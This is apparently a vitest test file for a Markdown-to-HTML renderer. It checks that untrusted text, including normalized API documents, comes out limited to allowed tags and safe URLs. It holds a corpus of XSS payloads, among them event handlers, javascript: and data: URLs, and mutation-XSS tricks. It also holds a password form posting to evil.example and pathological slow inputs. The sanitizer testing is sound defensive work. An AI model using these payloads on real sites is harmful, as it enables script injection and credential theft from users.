import { describe, expect, test } from 'vitest';
import { hostileDocument } from './fixtures/hostile-document.ts';
import { normalize } from './normalize/normalize.ts';
import { renderInlineMarkdown, renderMarkdown } from './render-markdown.ts';

const corpus = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<style>@import "//evil.example"</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<div style="position:fixed;inset:0" id="root" class="x">x</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](/sign-out)',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "[x](https://ok.example/'onmouseover='alert(1))",
  '![x](https://tracker.example/p.png)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://ok.example/a.png)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)>',
  '| <script>a</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<a/href="&#x2000;javascript:alert(1)">x',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
];

const plainTag =
  /^<\/?(p|br|hr|blockquote|pre|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td|code|em|strong|del|a)( ?\/)?>$/;
const tagWithAttributes = new RegExp(
  [
    '<a href="(https?://|mailto:)[^"<>]*" rel="nofollow noopener">',
    '<code class="language-[\\w+#-]+">',
    '<t[hd] align="(left|center|right)">',
    '<ol start="\\d+">',
  ]
    .join('$|^')
    .replace(/^/, '^')
    .replace(/$/, '$'),
);

/** Every `<` must begin one of the tags that are allowed, written exactly as allowed. */
function expectHarmless(html: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    expect(plainTag.test(tag) || tagWithAttributes.test(tag), `${tag} in ${html}`).toBe(true);
  }
}

describe('untrusted text', () => {
  test.each(corpus)('%j comes out harmless', (text) => {
    expectHarmless(renderMarkdown(text));
    expectHarmless(renderMarkdown(`before ${text} after`));
    expectHarmless(renderMarkdown(`- item\n\n  > ${text}\n`));
    expectHarmless(renderInlineMarkdown(text));
  });

  test('the check itself sees what is not harmless', () => {
    for (const bad of [
      '<script>',
      '<a href="javascript:x" rel="nofollow noopener">',
      '<p onclick="x">',
      '<img src="x">',
    ]) {
      expect(() => expectHarmless(bad)).toThrow();
    }
  });

  test.each(corpus)('%j in every text of a document comes out harmless', (text) => {
    const api = normalize(hostileDocument(text));
    const texts = allTexts(api);
    expect(texts.length).toBeGreaterThan(150);
    for (const one of texts) {
      expectHarmless(renderMarkdown(one));
      expectHarmless(renderInlineMarkdown(one));
    }
    const urls = [...api.servers, ...api.operations.flatMap(({ detail }) => detail.servers)];
    for (const url of urls) expect(url).not.toMatch(/^(?!https?:)[a-z]*:|^\/\//i);
    for (const docs of [api.externalDocs, api.operations[0]?.detail.externalDocs]) {
      if (docs) expect(docs.url).toMatch(/^https?:/);
    }
  });
});

describe('Markdown', () => {
  test('is rendered with headings below those of the page', () => {
    expect(renderMarkdown('# Top\n\nA **b** `c`\n\n- one\n- [x] two')).toBe(
      '<h3>Top</h3>\n<p>A <strong>b</strong> <code>c</code></p>\n<ul>\n<li>one</li>\n<li>[x] two</li>\n</ul>\n',
    );
    expect(renderMarkdown('# Top', { firstHeadingLevel: 1 })).toBe('<h1>Top</h1>\n');
  });

  test('links out and tells search engines not to follow', () => {
    expect(renderMarkdown('[x](https://ok.example/?a=1&b=2)')).toBe(
      '<p><a href="https://ok.example/?a=1&amp;b=2" rel="nofollow noopener">x</a></p>\n',
    );
  });

  test('keeps the text of HTML and images', () => {
    expect(renderMarkdown('a <b>bold</b> move<br>next ![a picture](https://a.example/b.png)')).toBe(
      '<p>a bold move<br />next a picture</p>\n',
    );
    expect(renderMarkdown('<p>Some <b>text</b></p>')).toBe('<p>Some text</p>');
  });

  test('on one line holds no blocks', () => {
    expect(renderInlineMarkdown('A `code`\n\n# text')).toBe('A <code>code</code> # text');
  });
});

describe('texts made to be slow or large', () => {
  const length = 50_000;
  test.each([
    ['quotes', '> '.repeat(length / 2)],
    ['lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n')],
    ['brackets', '['.repeat(length)],
    ['emphasis', '***a'.repeat(length / 4)],
    [
      'a table of many rows and columns',
      `|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}\n${'|a\n'.repeat(10_000)}`,
    ],
    [
      'a long address with many references',
      `[x]: http://a.example/${'a'.repeat(25_000)}\n\n${'[x] '.repeat(6000)}`,
    ],
  ])('%s', { timeout: 10_000 }, (_, text) => {
    const html = renderMarkdown(text);
    expectHarmless(html.slice(0, 20_000).replace(/<[^>]*$/, ''));
    expect(html.length).toBeLessThan(2_000_000);
  });
});

function allTexts(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => [key, ...allTexts(member)]);
}
